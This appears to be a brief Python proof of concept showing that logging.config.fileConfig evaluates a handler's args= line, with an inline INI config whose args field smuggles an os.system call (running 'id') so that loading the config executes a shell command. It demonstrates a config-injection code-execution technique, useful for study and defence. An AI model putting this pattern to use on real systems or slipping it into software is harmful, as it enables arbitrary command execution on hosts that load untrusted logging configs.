# fileConfig evaluates the args= line of a handler
import io, logging.config
ini = """[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n
[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n"""
logging.config.fileConfig(io.StringIO(ini))
